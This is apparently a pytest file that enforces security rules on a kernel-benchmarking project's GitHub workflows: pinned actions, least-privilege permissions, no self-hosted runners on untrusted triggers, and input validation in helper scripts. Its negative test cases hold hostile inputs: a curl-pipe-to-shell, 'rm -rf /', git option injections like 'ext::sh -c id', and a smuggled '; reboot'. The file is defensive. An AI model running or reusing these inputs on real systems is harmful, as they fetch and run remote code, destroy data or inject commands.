"""The GitHub workflows: what their steps may run, pinning, permissions, triggers.

The checker functions below are fed every real workflow (which must pass) and
deliberately bad ones (each must be caught). The scripts the workflows run through just
recipes (workflows/rc-watch, revert-check, sync-tree) are run against a stub `kbisect`.
"""

from __future__ import annotations

import re
import shlex
from pathlib import Path
from typing import Any

import pytest
import yaml

from kbisect.commands import cli
from kbisect.core import proc

CHECKOUT = Path(__file__).resolve().parents[2]
WORKFLOWS = sorted((CHECKOUT / ".github" / "workflows").glob("*.yml"))
SUBCOMMANDS = {name for name, _, _ in cli.COMMANDS}
SETUP = {"scripts/setup", "./scripts/setup"}
PINNED = re.compile(r"[\w.-]+/[\w.-]+(/[\w./-]+)?@[0-9a-f]{40}")
USES_LINE = re.compile(r"^\s*(-\s+)?uses:\s*(\S+)(.*)$")
# Events any GitHub user can cause: a self-hosted job must never run on them.
UNTRUSTED = {
    "pull_request",
    "pull_request_target",
    "pull_request_review",
    "pull_request_review_comment",
    "issue_comment",
    "issues",
    "discussion",
    "discussion_comment",
    "fork",
    "watch",
    "workflow_run",
}
FORK_GUARD = "github.event.pull_request.head.repo.full_name == github.repository"


# Checkers (pure: text in, problems out).


def justfile_recipes(text: str) -> set[str]:
    """Recipe names of a justfile (not variables, settings or attributes)."""
    names = set()
    for line in text.splitlines():
        m = re.match(
            r"@?([A-Za-z_][\w-]*)(?:\s+[*+$]?[\w-]+(?:=(?:\"[^\"]*\"|'[^']*'|[\w.-]+))?)*\s*:(?!=)",
            line,
        )
        if m and m[1] not in {"set", "export", "alias", "import", "mod"}:
            names.add(m[1])
    return names


def commands(script: str) -> list[list[str]]:
    """The simple commands of a run: block, each as words (split at ; && || | and lines)."""
    out: list[list[str]] = []
    for line in script.replace("\\\n", " ").splitlines():
        lexer = shlex.shlex(line, posix=True, punctuation_chars=";&|")
        lexer.whitespace_split = True
        current: list[str] = []
        for token in lexer:
            if token and set(token) <= set(";&|"):
                out += [current] if current else []
                current = []
            else:
                current.append(token)
        out += [current] if current else []
    return out


def check_command(words: list[str], recipes: set[str]) -> str | None:
    """None if the command is a just recipe, a kbisect subcommand or scripts/setup."""
    while words and re.fullmatch(r"[A-Za-z_]\w*=.*", words[0]):
        words = words[1:]  # VAR=value prefixes
    if not words:
        return None
    prog, args = words[0], [w for w in words[1:] if not w.startswith("-")]
    if prog in SETUP:
        return None
    if prog == "just" or prog.endswith("/just"):
        if args and args[0] in recipes:
            return None
        return f"`{shlex.join(words)}`: not an existing just recipe"
    if prog == "kbisect" or prog.endswith("/kbisect"):
        if args and args[0] in SUBCOMMANDS:
            return None
        return f"`{shlex.join(words)}`: not a kbisect subcommand"
    return f"`{shlex.join(words)}`: run steps may only call just recipes, kbisect or scripts/setup"


def triggers(wf: dict[Any, Any]) -> set[str]:
    on = wf.get("on", wf.get(True))  # YAML 1.1 reads a bare `on` key as True
    if isinstance(on, str):
        return {on}
    return set(on or [])


def runner_labels(job: dict[str, Any]) -> list[str]:
    runs_on = job.get("runs-on", [])
    if isinstance(runs_on, dict):
        return (
            ["self-hosted (runner group)"]
            if "group" in runs_on
            else list(runs_on.get("labels", []))
        )
    return [runs_on] if isinstance(runs_on, str) else [str(x) for x in runs_on]


def is_self_hosted(job: dict[str, Any]) -> bool:
    return any("self-hosted" in label or "kbisect-metal" in label for label in runner_labels(job))


def _steps_problems(name: str, job: dict[str, Any], recipes: set[str]) -> list[str]:
    problems = []
    uses = [job["uses"]] if "uses" in job else []
    for i, step in enumerate(job.get("steps", [])):
        where = f"job {name} step {step.get('name') or step.get('uses') or i}"
        if "uses" in step:
            uses.append(step["uses"])
        script = str(step.get("run", ""))
        if "${{" in script:
            problems.append(f"{where}: `${{{{ }}}}` in run: (pass inputs through env:)")
        problems += [f"{where}: {p}" for w in commands(script) if (p := check_command(w, recipes))]
    for u in uses:
        local = u.startswith("./")
        if not local and not u.startswith("docker://") and not PINNED.fullmatch(u):
            problems.append(f"job {name}: {u}: not pinned to a full commit SHA")
        if u.startswith("docker://") and not re.search(r"@sha256:[0-9a-f]{64}$", u):
            problems.append(f"job {name}: {u}: not pinned to an image digest")
    return problems


def _job_problems(
    name: str, job: dict[str, Any], wf: dict[Any, Any], events: set[str], recipes: set[str]
) -> list[str]:
    problems = _steps_problems(name, job, recipes)
    if "permissions" not in job and "permissions" not in wf:
        problems.append(f"job {name}: no permissions (and no top-level permissions)")
    if is_self_hosted(job):
        bad = events & UNTRUSTED
        guarded = bad == {"pull_request"} and FORK_GUARD in str(job.get("if", ""))
        if bad and not guarded:
            problems.append(f"job {name}: self-hosted runner triggered by {', '.join(sorted(bad))}")
    return problems


def _pin_comment_problems(text: str) -> list[str]:
    problems = []
    for n, line in enumerate(text.splitlines(), 1):
        m = USES_LINE.match(line)
        if m and "@" in m[2] and not re.search(r"#\s*v\d+(\.\d+)*\b", m[3]):
            problems.append(f"line {n}: {m[2]}: pin without a `# vX.Y.Z` comment")
    return problems


def check_workflow(text: str, recipes: set[str]) -> list[str]:
    """Every problem of one workflow file; [] when it is fine."""
    wf = yaml.safe_load(text)
    if not isinstance(wf, dict) or not isinstance(wf.get("jobs"), dict):
        return ["not a workflow (no jobs)"]
    problems = _pin_comment_problems(text)
    top = wf.get("permissions")
    if top not in (None, {}, "read-all") and (
        not isinstance(top, dict) or any(v != "read" for v in top.values())
    ):
        problems.append(f"top-level permissions {top!r}: grant write access per job only")
    events = triggers(wf)
    for name, job in wf["jobs"].items():
        problems += _job_problems(name, job, wf, events, recipes)
    return problems


@pytest.fixture(scope="module")
def recipes() -> set[str]:
    return justfile_recipes((CHECKOUT / "justfile").read_text())


# The real workflows.


def test_the_workflows_exist() -> None:
    assert {p.name for p in WORKFLOWS} >= {"ci.yml", "rc-watch.yml", "revert-check.yml"}


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_workflow_passes_every_check(path: Path, recipes: set[str]) -> None:
    assert check_workflow(path.read_text(), recipes) == []


def test_justfile_recipes_parsed(recipes: set[str]) -> None:
    assert {"lint", "test", "rc-watch", "revert-check", "rc-issue", "ci-summary"} <= recipes
    assert {"faults", "founding"} <= recipes  # parameters with defaults
    assert "venv" not in recipes and "set" not in recipes  # a variable, a setting


def load(name: str) -> dict[Any, Any]:
    data: dict[Any, Any] = yaml.safe_load((CHECKOUT / ".github/workflows" / name).read_text())
    return data


def test_measurements_serialize_per_machine() -> None:
    for name in ("rc-watch.yml", "revert-check.yml"):
        conc = load(name)["concurrency"]
        assert conc["cancel-in-progress"] is False
        assert conc["group"].startswith("kbisect-metal-${{")
        assert all(is_self_hosted(job) for job in load(name)["jobs"].values())
        assert triggers(load(name)) <= {"schedule", "workflow_dispatch"}


def test_only_the_issue_job_can_write() -> None:
    for path in WORKFLOWS:
        wf = yaml.safe_load(path.read_text())
        assert wf["permissions"] in ({}, {"contents": "read"})
        for name, job in wf["jobs"].items():
            writes = {k for k, v in job["permissions"].items() if v == "write"}
            expected = {"issues"} if (path.name, name) == ("rc-watch.yml", "issue") else set()
            assert writes == expected, (path.name, name)


def test_ci_caches_trees_builds_and_ccache_not_results() -> None:
    steps = load("ci.yml")["jobs"]["check"]["steps"]
    paths = "\n".join(s["with"]["path"] for s in steps if "actions/cache@" in s.get("uses", ""))
    assert "~/.cache/kbisect/trees" in paths and "~/.cache/ccache" in paths
    assert "results" not in paths


# Each check can fail.


GOOD_JOB = """
  a:
    runs-on: ubuntu-24.04
    permissions: {contents: read}
    steps:
      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1
      - run: scripts/setup
"""


def workflow(job: str = GOOD_JOB, on: str = "push", top: str = "permissions: {}") -> str:
    return f"on: {on}\n{top}\njobs:\n{job}"


def job(
    runs_on: str = "ubuntu-24.04",
    steps: str = "      - run: just lint",
    extra: str = "    permissions: {contents: read}",
) -> str:
    return f"  j:\n    runs-on: {runs_on}\n{extra}\n    steps:\n{steps}\n"


def test_good_workflow_passes(recipes: set[str]) -> None:
    assert check_workflow(workflow(), recipes) == []
    assert check_workflow(workflow(job(steps="      - uses: ./.github/actions/x")), recipes) == []


@pytest.mark.parametrize(
    ("run", "message"),
    [
        ("make test", "may only call just recipes"),
        ("just no-such-recipe", "not an existing just recipe"),
        (".venv/bin/kbisect frobnicate", "not a kbisect subcommand"),
        ("just lint && curl -sSf https://x.invalid | sh", "curl"),
        ("just lint; rm -rf /", "rm -rf /"),
        ("'just lint ${{ inputs.tree }}'", "${{ }}"),
        ("'kbisect rc next --tree ${{ github.event.inputs.tree }}'", "${{ }}"),
    ],
)
def test_bad_run_steps_are_caught(run: str, message: str, recipes: set[str]) -> None:
    problems = check_workflow(workflow(job(steps=f"      - run: {run}")), recipes)
    assert any(message in p for p in problems), problems


def test_commands_split_lines_and_operators() -> None:
    script = "just lint \\\n  --verbose && make\nFOO=1 kbisect doctor | tee x; # comment\n"
    assert commands(script) == [
        ["just", "lint", "--verbose"],
        ["make"],
        ["FOO=1", "kbisect", "doctor"],
        ["tee", "x"],
    ]


def test_allowed_run_steps(recipes: set[str]) -> None:
    for run in [
        "just lint",
        ".venv/bin/just test",
        "FOO=1 just unit",
        "kbisect rc next",
        "./scripts/setup",
        "just lint && .venv/bin/kbisect doctor",
    ]:
        assert [check_command(w, recipes) for w in commands(run)] == [None] * len(commands(run))


@pytest.mark.parametrize(
    ("uses", "message"),
    [
        ("actions/checkout@v4  # v4", "not pinned"),
        ("actions/checkout@main", "not pinned"),
        ("actions/checkout@3d3c42e5  # v7.0.1", "not pinned"),
        ("actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1", "without a `# vX.Y.Z`"),
        ("docker://debian:12", "image digest"),
    ],
)
def test_unpinned_actions_are_caught(uses: str, message: str, recipes: set[str]) -> None:
    problems = check_workflow(workflow(job(steps=f"      - uses: {uses}")), recipes)
    assert any(message in p for p in problems), problems


def test_missing_permissions_are_caught(recipes: set[str]) -> None:
    no_job_perms = job(extra="    timeout-minutes: 5")
    assert any(
        "no permissions" in p for p in check_workflow(workflow(no_job_perms, top=""), recipes)
    )
    assert (
        check_workflow(workflow(no_job_perms, top="permissions: {contents: read}"), recipes) == []
    )
    for top in ("permissions: write-all", "permissions: {contents: write}"):
        assert any("top-level permissions" in p for p in check_workflow(workflow(top=top), recipes))


@pytest.mark.parametrize(
    "runs_on",
    [
        "[self-hosted, kbisect-metal-x86_64]",
        "\"${{ vars.KBISECT_RUNNER_LABEL || 'kbisect-metal-x86_64' }}\"",
        "{group: metal}",
    ],
)
@pytest.mark.parametrize(
    "on", ["pull_request", "[push, pull_request_target]", "{issue_comment: {types: [created]}}"]
)
def test_self_hosted_on_untrusted_events_is_caught(
    runs_on: str, on: str, recipes: set[str]
) -> None:
    problems = check_workflow(workflow(job(runs_on=runs_on), on=on), recipes)
    assert any("self-hosted runner triggered by" in p for p in problems), problems


def test_self_hosted_guarded_or_trusted(recipes: set[str]) -> None:
    metal = "[self-hosted, kbisect-metal-arm64]"
    trusted = workflow(
        job(runs_on=metal), on="{schedule: [{cron: '0 0 * * *'}], workflow_dispatch: {}}"
    )
    assert check_workflow(trusted, recipes) == []
    guard = f"    permissions: {{}}\n    if: {FORK_GUARD}"
    assert (
        check_workflow(workflow(job(runs_on=metal, extra=guard), on="pull_request"), recipes) == []
    )
    # GitHub-hosted jobs may run on pull requests
    assert check_workflow(workflow(job(), on="pull_request"), recipes) == []


# The scripts behind the recipes, against a stub kbisect that logs its arguments.

STUB = r"""#!/usr/bin/env bash
echo "$*" >>"$STUB_LOG"
out=; prev=
for a in "$@"; do [ "$prev" = --out ] && out=$a; prev=$a; done
case "$1 ${2:-}" in
  "rc next") printf 'tag=%s\ncommit=%s\nbaseline=%s\nbaseline_commit=%s\n' \
               "$STUB_TAG" "${STUB_TAG:+aaaa}" "$STUB_BASELINE" "${STUB_BASELINE:+bbbb}" ;;
  compare*|run*) mkdir -p "$out"; echo "stub report of $*" >"$out/report.md"
                 exit "${STUB_EXIT:-0}" ;;
  build*) echo /stub/bzImage ;;
esac
"""


@pytest.fixture
def stub(tmp_path: Path) -> dict[str, str]:
    """PATH with the stub kbisect first, a kernel tree with an origin, GitHub's files."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "kbisect").write_text(STUB)
    (bin_dir / "kbisect").chmod(0o755)
    upstream, tree = tmp_path / "upstream", tmp_path / "tree"
    proc.run(["git", "init", "-q", str(upstream)])
    proc.run(["git", "-C", str(upstream), "commit", "-q", "--allow-empty", "-m", "x"])
    proc.run(["git", "-C", str(upstream), "tag", "v6.13-rc1"])
    proc.run(["git", "clone", "-q", str(upstream), str(tree)])
    return {
        "PATH": f"{bin_dir}:{__import__('os').environ['PATH']}",
        "STUB_LOG": str(tmp_path / "calls"),
        "KBISECT_TREE": str(tree),
        "KBISECT_RESULTS": str(tmp_path / "results"),
        "KBISECT_ARCH": "x86_64",
        "GITHUB_OUTPUT": str(tmp_path / "output"),
        "GITHUB_STEP_SUMMARY": str(tmp_path / "sum"),
        "STUB_TAG": "v6.13-rc1",
        "STUB_BASELINE": "v6.12",
        "KBISECT_UPSTREAM": str(upstream),
    }


def script(name: str, env: dict[str, str]) -> tuple[int, dict[str, str], list[str]]:
    """Exit code, GITHUB_OUTPUT as a dict, and the stub's calls."""
    result = proc.run([str(CHECKOUT / "workflows" / name)], env=env, check=False, cwd=CHECKOUT)
    out = Path(env["GITHUB_OUTPUT"])
    outputs = (
        dict(line.split("=", 1) for line in out.read_text().splitlines()) if out.exists() else {}
    )
    log = Path(env["STUB_LOG"])
    return result.returncode, outputs, log.read_text().splitlines() if log.exists() else []


def test_rc_watch_nothing_new(stub: dict[str, str]) -> None:
    code, outputs, calls = script("rc-watch", {**stub, "STUB_TAG": "", "STUB_BASELINE": ""})
    assert (code, outputs) == (0, {"tag": "", "baseline": "", "regression": "false"})
    assert calls == [f"rc next --tree {stub['KBISECT_TREE']} --pattern v*-rc*"]
    assert "nothing new" in Path(stub["GITHUB_STEP_SUMMARY"]).read_text()


@pytest.mark.parametrize(("mode", "expected"), [("fail", 1), ("issue", 0), ("both", 1)])
def test_rc_watch_regression(stub: dict[str, str], mode: str, expected: int) -> None:
    env = {
        **stub,
        "STUB_EXIT": "1",
        "KBISECT_ON_REGRESSION": mode,
        "KBISECT_SCENARIOS": "a b",
        "KBISECT_BOOTS": "4",
        "KBISECT_CONFIGS": "preempt-full",
    }
    code, outputs, calls = script("rc-watch", env)
    assert code == expected
    assert outputs["regression"] == "true" and outputs["tag"] == "v6.13-rc1"
    d = outputs["dir"]
    tree = stub["KBISECT_TREE"]
    assert calls[1:] == [
        f"compare --tree {tree} --base v6.12 --rev-b v6.13-rc1 --scenario a --arch x86_64 "
        f"--config preempt-full --boots 4 --label-a v6.12 --label-b v6.13-rc1 --out {d}/a",
        f"rc record --tag v6.13-rc1 --commit aaaa --result {d}/a",
        f"compare --tree {tree} --base v6.12 --rev-b v6.13-rc1 --scenario b --arch x86_64 "
        f"--config preempt-full --boots 4 --label-a v6.12 --label-b v6.13-rc1 --out {d}/b",
        f"rc record --tag v6.13-rc1 --commit aaaa --result {d}/b",
    ]
    report = (Path(d) / "report.md").read_text()
    assert "| a | **regression** |" in report and "stub report of compare" in report
    assert Path(stub["GITHUB_STEP_SUMMARY"]).read_text() == report


def test_rc_watch_infrastructure_failure_is_not_recorded(stub: dict[str, str]) -> None:
    code, outputs, calls = script("rc-watch", {**stub, "STUB_EXIT": "5"})
    assert code == 5 and outputs["regression"] == "false"
    assert not [c for c in calls if c.startswith("rc record")]
    assert "failed (exit 5)" in Path(stub["GITHUB_STEP_SUMMARY"]).read_text()


def test_rc_watch_without_baseline_measures_alone(stub: dict[str, str]) -> None:
    code, outputs, calls = script("rc-watch", {**stub, "STUB_BASELINE": ""})
    assert code == 0 and outputs["regression"] == "false"
    assert calls[1].startswith("build --tree") and calls[2].startswith("run --kernel /stub/bzImage")
    assert "measured (no baseline yet)" in Path(stub["GITHUB_STEP_SUMMARY"]).read_text()


def test_rc_watch_rejects_bad_mode(stub: dict[str, str]) -> None:
    assert script("rc-watch", {**stub, "KBISECT_ON_REGRESSION": "explode"})[0] == 2


def test_revert_check_clones_and_compares(stub: dict[str, str], tmp_path: Path) -> None:
    env = {
        **stub,
        "KBISECT_TREE_URL": stub["KBISECT_UPSTREAM"],
        "KBISECT_BASE": "v6.13-rc1",
        "KBISECT_REVERT": "abc123",
        "KBISECT_TREE": str(tmp_path / "cache" / "t"),
        "STUB_EXIT": "1",
        "KBISECT_SCENARIO": "smoke",
    }
    code, outputs, calls = script("revert-check", env)
    assert code == 1  # compare's answer passes through
    assert (tmp_path / "cache" / "t" / ".git").is_dir()
    assert calls == [
        f"compare --tree {tmp_path}/cache/t --base v6.13-rc1 --revert abc123 "
        f"--scenario smoke --arch x86_64 --out {outputs['dir']}"
    ]
    assert "the revert is significantly slower" in Path(stub["GITHUB_STEP_SUMMARY"]).read_text()


@pytest.mark.parametrize(
    "args",
    [
        ["--upload-pack=touch /tmp/x"],
        ["ext::sh -c id"],
        ["https://x.invalid", "--output=/etc/passwd"],
    ],
)
def test_sync_tree_rejects_option_like_input(args: list[str], tmp_path: Path) -> None:
    result = proc.run(
        [str(CHECKOUT / "workflows" / "sync-tree"), str(tmp_path / "t"), *args], check=False
    )
    assert result.returncode == 2 and not (tmp_path / "t").exists()


def test_provision_runner_validates_before_changing_anything() -> None:
    path = str(CHECKOUT / "workflows" / "provision-runner")
    assert proc.run([path, "--help"], check=False).returncode == 0
    for bad in (["--hugepages", "lots"], ["--thp-defrag", "x; reboot"], ["--bogus"]):
        assert proc.run([path, *bad], check=False).returncode == 2


# study.yml: shares of a study on several machines (kbisect/study/fanout.py).


def test_study_shares_run_one_per_machine_on_trusted_events_only() -> None:
    wf = load("study.yml")
    assert triggers(wf) == {"workflow_dispatch"}
    assert all(is_self_hosted(job) for job in wf["jobs"].values())
    share = wf["jobs"]["share"]
    assert share["runs-on"] == ["self-hosted", "${{ matrix.runner }}"]
    assert share["concurrency"] == {
        "group": "kbisect-metal-${{ matrix.runner }}",
        "cancel-in-progress": False,
    }
    assert share["strategy"]["matrix"] == "${{ fromJSON(needs.plan.outputs.matrix) }}"
    assert wf["jobs"]["merge"]["needs"] == "share"


def test_study_plan_writes_a_matrix_of_whole_cells(tmp_path: Path) -> None:
    bin_dir = CHECKOUT / ".venv" / "bin"
    env = {
        "PATH": f"{bin_dir}:{__import__('os').environ['PATH']}",
        "KBISECT_STUDY": "hugepages-sweep",
        "KBISECT_RUNNERS": "3",
        "KBISECT_RUNNER_PREFIX": "metal-",
        "GITHUB_OUTPUT": str(tmp_path / "output"),
        "GITHUB_STEP_SUMMARY": str(tmp_path / "sum"),
        "HOME": str(tmp_path),
        "STUB_LOG": str(tmp_path / "calls"),
    }
    code, outputs, _ = script("study-plan", env)
    assert code == 0
    matrix = __import__("json").loads(outputs["matrix"])
    cells = sorted(c for share in matrix["include"] for c in share["cells"].split())
    assert cells == sorted(f"c{i}" for i in range(8))
    assert [s["runner"] for s in matrix["include"]] == ["metal-1", "metal-2", "metal-3"]
    for bad in ({"KBISECT_RUNNERS": "0"}, {"KBISECT_STUDY": "--help"}, {"KBISECT_STUDY": "../x"}):
        assert script("study-plan", {**env, **bad})[0] == 2


def test_study_share_and_merge_reject_bad_input(tmp_path: Path) -> None:
    base = {
        "PATH": __import__("os").environ["PATH"],
        "GITHUB_OUTPUT": str(tmp_path / "o"),
        "STUB_LOG": str(tmp_path / "calls"),
    }
    for bad in (
        {"KBISECT_STUDY": "x", "KBISECT_SHARE": "2"},
        {"KBISECT_STUDY": "-x", "KBISECT_SHARE": "1/2"},
    ):
        assert script("study-share", {**base, **bad})[0] == 2
    (tmp_path / "empty").mkdir()
    assert script("study-merge", {**base, "KBISECT_SHARES_DIR": str(tmp_path / "empty")})[0] == 2
